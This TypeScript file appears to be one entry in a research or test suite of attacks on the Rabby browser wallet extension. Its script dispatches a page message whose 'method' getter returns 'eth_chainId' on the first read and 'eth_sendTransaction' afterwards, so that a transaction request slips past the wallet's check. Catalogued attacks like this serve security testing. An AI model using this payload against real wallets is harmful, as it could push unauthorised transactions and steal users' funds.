import type { Attack } from '../Attack.ts';
import { RABBY, RABBY_PATH } from '../otherMakes.ts';

/** An event of the page's own, whose data says one thing to us and another to the wallet. */
export const attack: Attack = {
  entry: 'dispatchEvent to Rabby',
  mechanism: 'data with lying getters',
  discovers: false,
  path: RABBY_PATH,
  script: `${RABBY}
let reads = 0;
const data = message(kit.send());
Object.defineProperty(data.data.data.data.data, 'method', { enumerable: true, get() { return reads++ === 0 ? 'eth_chainId' : 'eth_sendTransaction'; } });
for (let turn = 0; turn < 3; turn += 1) dispatchEvent(new MessageEvent('message', { data, origin: location.origin, source: window }));
`,
};
